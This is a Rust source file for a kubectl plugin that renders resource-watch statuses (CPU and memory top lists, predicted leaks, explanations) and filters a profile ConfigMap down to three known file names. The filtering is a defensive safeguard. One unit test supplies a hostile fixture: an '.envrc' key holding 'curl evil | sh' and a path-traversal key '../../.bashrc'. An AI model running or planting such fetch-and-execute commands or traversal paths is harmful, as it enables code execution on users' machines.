//! `kubectl resourcewatch`: what a watch's status holds, as tables a person reads, and CPU
//! profiles fetched to local files. Everything here reads what the operator already
//! wrote (the watch's status, the profile's ConfigMap) or writes what a user could write
//! with kubectl (the `resourcewatch.io/profile` annotation): the plugin needs no rights
//! of its own and never talks to the operator or the agents.
//!
//! This file renders; `main.rs` talks to the API server.

use std::fmt::Write as _;

use resourcewatch_crds::{ResourceWatch, ResourceWatchStatus, cluster::ClusterResourceWatch};
use resourcewatch_units::{format_bytes, format_duration};

/// Left-aligned columns separated by three spaces, as `kubectl get` prints them.
pub fn table(header: &[&str], rows: &[Vec<String>]) -> String {
    let mut widths: Vec<usize> = header.iter().map(|h| h.len()).collect();
    for r in rows {
        for (w, c) in widths.iter_mut().zip(r) {
            *w = (*w).max(c.chars().count());
        }
    }
    let mut out = String::new();
    let line = |out: &mut String, cells: &mut dyn Iterator<Item = &str>| {
        let mut l = String::new();
        for (i, (c, w)) in cells.zip(&widths).enumerate() {
            if i + 1 == widths.len() {
                l.push_str(c);
            } else {
                let _ = write!(l, "{c:<w$}   ");
            }
        }
        out.push_str(l.trim_end());
        out.push('\n');
    };
    line(&mut out, &mut header.iter().copied());
    for r in rows {
        line(&mut out, &mut r.iter().map(String::as_str));
    }
    out
}

fn secs(s: Option<f64>) -> String {
    match s {
        Some(s) if s.is_finite() && s >= 0.0 => {
            format_duration(std::time::Duration::from_secs_f64(s.round()))
        }
        _ => "-".into(),
    }
}

fn dash(s: &str) -> String {
    if s.is_empty() { "-".into() } else { s.into() }
}

fn name(w: &ResourceWatch) -> String {
    format!(
        "{}/{}",
        w.metadata.namespace.as_deref().unwrap_or_default(),
        w.metadata.name.as_deref().unwrap_or_default()
    )
}

/// The Top-K of each watch: CPU (percent of one core) or resident memory.
pub fn top(watches: &[ResourceWatch], memory: bool) -> String {
    let mut rows = Vec::new();
    for w in watches {
        let st = w.status.clone().unwrap_or_default();
        let list = if memory { &st.top_memory } else { &st.top_cpu };
        for (i, e) in list.iter().enumerate() {
            let value = if memory {
                format_bytes(e.process.value as u64)
            } else {
                format!("{:.1}%", e.process.value)
            };
            rows.push(vec![
                name(w),
                (i + 1).to_string(),
                e.pod.clone(),
                dash(&e.container),
                e.process.node.clone(),
                e.process.pid.to_string(),
                dash(&e.process.command),
                value,
            ]);
        }
    }
    if rows.is_empty() {
        return "No Top-K figures yet (no agent has reported for these watches).\n".into();
    }
    let figure = if memory { "RSS" } else { "CPU" };
    table(
        &[
            "WATCH",
            "RANK",
            "POD",
            "CONTAINER",
            "NODE",
            "PID",
            "COMMAND",
            figure,
        ],
        &rows,
    )
}

/// The node view (a ClusterResourceWatch): the heaviest processes of the selected nodes.
pub fn node_top(w: &ClusterResourceWatch, memory: bool) -> String {
    let st = w.status.clone().unwrap_or_default();
    let list = if memory { &st.top_memory } else { &st.top_cpu };
    let rows: Vec<Vec<String>> = list
        .iter()
        .enumerate()
        .map(|(i, e)| {
            let owner = if e.pod.is_empty() {
                format!("{:?}", e.owner).to_lowercase()
            } else {
                format!("{}/{}", e.namespace, e.pod)
            };
            vec![
                (i + 1).to_string(),
                e.process.node.clone(),
                e.process.pid.to_string(),
                dash(&e.process.command),
                owner,
                if memory {
                    format_bytes(e.process.value as u64)
                } else {
                    format!("{:.1}%", e.process.value)
                },
            ]
        })
        .collect();
    if rows.is_empty() {
        return "No figures yet (no agent of the selected nodes has reported).\n".into();
    }
    let figure = if memory { "RSS" } else { "CPU" };
    table(&["RANK", "NODE", "PID", "COMMAND", "OWNER", figure], &rows)
}

/// Leaking containers, soonest OOM first, with the heaviest growth site's leaf frame.
pub fn leaks(watches: &[ResourceWatch]) -> String {
    let mut rows = Vec::new();
    for w in watches {
        let st = w.status.clone().unwrap_or_default();
        for l in &st.leaks {
            let site = l
                .growth_sites
                .first()
                .and_then(|s| s.frames.first())
                .map_or_else(|| "-".to_string(), Clone::clone);
            rows.push(vec![
                name(w),
                l.pod.clone(),
                dash(&l.container),
                l.node.clone(),
                format!(
                    "{}/s",
                    format_bytes(l.growth_bytes_per_second.max(0.0) as u64)
                ),
                l.confidence.to_string(),
                secs(l.time_to_oom_seconds),
                secs(l.time_to_oom_lower_bound_seconds),
                l.limit_bytes.map_or_else(|| "-".into(), format_bytes),
                site,
            ]);
        }
    }
    if rows.is_empty() {
        return "No leaks predicted.\n".into();
    }
    table(
        &[
            "WATCH",
            "POD",
            "CONTAINER",
            "NODE",
            "GROWTH",
            "CONFIDENCE",
            "OOM IN",
            "AT LEAST",
            "LIMIT",
            "GROWS IN",
        ],
        &rows,
    )
}

/// One watch's state in words: conditions, coverage, nodes, leaks, remediation, profile.
pub fn explain(w: &ResourceWatch) -> String {
    let mut s = String::new();
    let Some(st) = &w.status else {
        let _ = writeln!(
            s,
            "{}: no status yet: no operator has reconciled it (is the operator running? \
             `kubectl -n resourcewatch-system get pods`)",
            name(w)
        );
        return s;
    };
    let _ = writeln!(s, "{}", name(w));
    if st.observed_generation != w.metadata.generation {
        let _ = writeln!(
            s,
            "  the status is for generation {:?}; the spec is at {:?}: the operator has not caught up",
            st.observed_generation, w.metadata.generation
        );
    }
    for c in &st.conditions {
        let _ = writeln!(
            s,
            "  {}={:?} ({}): {}",
            c.type_, c.status, c.reason, c.message
        );
    }
    coverage(&mut s, st);
    let _ = writeln!(s, "  leaks: {}", st.leaks.len());
    for l in &st.leaks {
        let _ = writeln!(
            s,
            "    {}/{} on {}: +{}/s at confidence {}, OOM in {} (at least {})",
            l.pod,
            dash(&l.container),
            l.node,
            format_bytes(l.growth_bytes_per_second.max(0.0) as u64),
            l.confidence,
            secs(l.time_to_oom_seconds),
            secs(l.time_to_oom_lower_bound_seconds)
        );
        for site in &l.growth_sites {
            let _ = writeln!(
                s,
                "      {:.0}% of the growth in {}",
                site.percent,
                site.frames.join(" < ")
            );
        }
    }
    for r in st.remediations.iter().rev().take(5) {
        let _ = writeln!(
            s,
            "  remediation {} {:?} ({}): {}",
            r.pod, r.action, r.reason, r.message
        );
    }
    if let Some(p) = &st.profile {
        let _ = writeln!(s, "  profile of {} ({:?}): {}", p.pod, p.state, p.message);
    }
    s
}

fn coverage(s: &mut String, st: &ResourceWatchStatus) {
    let _ = writeln!(
        s,
        "  pods matched {}, on {} node(s), {} reporting",
        st.matched_pods, st.expected_nodes, st.reporting_nodes
    );
    for n in &st.nodes {
        let state = if n.reporting {
            "reporting".to_string()
        } else {
            "NOT reporting (no agent stream within the operator's --agent-grace: see the agent pod on that node)".to_string()
        };
        let _ = writeln!(s, "    node {}: {state}", n.name);
    }
}

/// The files a profile's ConfigMap may give, and from which part: `profile.folded` and
/// `profile.svg` as text (`data`), `profile.pb.gz` as bytes (`binaryData`), as the
/// operator writes them (operator/shell/src/profile_store.rs).
pub const PROFILE_FILES: [(&str, bool); 3] = [
    ("profile.folded", false),
    ("profile.svg", false),
    ("profile.pb.gz", true),
];

/// What to write of a profile's ConfigMap: only the files in [`PROFILE_FILES`], each
/// from its own part. Anyone who may write ConfigMaps in the namespace could add keys
/// such as `.envrc` or `../x`: those are returned apart, to be reported, never written.
pub fn profile_files(
    data: &std::collections::BTreeMap<String, String>,
    binary: &std::collections::BTreeMap<String, Vec<u8>>,
) -> (Vec<(&'static str, Vec<u8>)>, Vec<String>) {
    let mut files = Vec::new();
    for (name, is_binary) in PROFILE_FILES {
        let bytes = if is_binary {
            binary.get(name).cloned()
        } else {
            data.get(name).map(|s| s.clone().into_bytes())
        };
        if let Some(b) = bytes {
            files.push((name, b));
        }
    }
    let known = |k: &String, b: bool| PROFILE_FILES.contains(&(k.as_str(), b));
    let ignored = data
        .keys()
        .filter(|k| !known(k, false))
        .chain(binary.keys().filter(|k| !known(k, true)))
        .cloned()
        .collect();
    (files, ignored)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_known_profile_files_are_written() {
        let data = [
            ("profile.folded", "a;b 1\n"),
            (".envrc", "curl evil | sh"),
            ("../../.bashrc", "x"),
            ("profile.pb.gz", "text where bytes belong"),
        ]
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .into();
        let binary = [("profile.pb.gz".to_owned(), vec![0x1f, 0x8b])].into();
        let (files, ignored) = profile_files(&data, &binary);
        assert_eq!(
            files,
            vec![
                ("profile.folded", b"a;b 1\n".to_vec()),
                ("profile.pb.gz", vec![0x1f, 0x8b])
            ]
        );
        assert_eq!(ignored, vec!["../../.bashrc", ".envrc", "profile.pb.gz"]);
    }

    fn watch() -> ResourceWatch {
        serde_json::from_value(serde_json::json!({
            "apiVersion": "resourcewatch.io/v1alpha1", "kind": "ResourceWatch",
            "metadata": {"name": "api", "namespace": "shop", "generation": 2},
            "spec": {"selector": {"matchLabels": {"app": "api"}}},
            "status": {
                "observedGeneration": 2, "matchedPods": 2, "expectedNodes": 2, "reportingNodes": 1,
                "conditions": [{"type": "Degraded", "status": "True", "reason": "AgentsMissing",
                                "message": "1 of 2 nodes not reporting", "lastTransitionTime": "2026-11-26T10:00:00Z"}],
                "topCPU": [{"pod": "api-1", "container": "app", "node": "n1", "pid": 42,
                            "command": "java", "value": 97.5}],
                "topMemory": [{"pod": "api-2", "node": "n2", "pid": 7, "value": 1073741824.0}],
                "nodes": [{"name": "n1", "reporting": true}, {"name": "n2", "reporting": false}],
                "leaks": [{"pod": "api-1", "container": "app", "node": "n1",
                           "growthBytesPerSecond": 1048576.0, "confidence": 88,
                           "timeToOOMSeconds": 245.4, "timeToOOMLowerBoundSeconds": 200.0,
                           "limitBytes": 268435456,
                           "growthSites": [{"frames": ["leak_here", "main"], "bytes": 1000, "percent": 93.0}]}]
            }
        }))
        .expect("watch")
    }

    #[test]
    fn tables_name_the_process_its_pod_and_figure() {
        let w = [watch()];
        let t = top(&w, false);
        assert!(t.starts_with("WATCH"), "{t}");
        let row = t.lines().nth(1).expect("a row");
        for cell in ["shop/api", "api-1", "app", "n1", "42", "java", "97.5%"] {
            assert!(row.contains(cell), "{cell} in {row}");
        }
        let t = top(&w, true);
        assert!(t.contains("1Gi") && t.contains("api-2"), "{t}");
        let l = leaks(&w);
        for cell in ["1Mi/s", "88", "4m5s", "3m20s", "256Mi", "leak_here"] {
            assert!(l.contains(cell), "{cell} in {l}");
        }
    }

    #[test]
    fn explain_says_why_in_words() {
        let e = explain(&watch());
        assert!(e.contains("Degraded=True (AgentsMissing)"), "{e}");
        assert!(e.contains("node n2: NOT reporting"), "{e}");
        assert!(e.contains("93% of the growth in leak_here < main"), "{e}");
        let mut fresh = watch();
        fresh.status = None;
        assert!(explain(&fresh).contains("no status yet"));
    }

    #[test]
    fn empty_statuses_say_so_rather_than_print_a_bare_header() {
        let mut w = watch();
        w.status = Some(ResourceWatchStatus::default());
        assert!(top(&[w.clone()], false).starts_with("No Top-K"));
        assert_eq!(leaks(&[w]), "No leaks predicted.\n");
    }
}
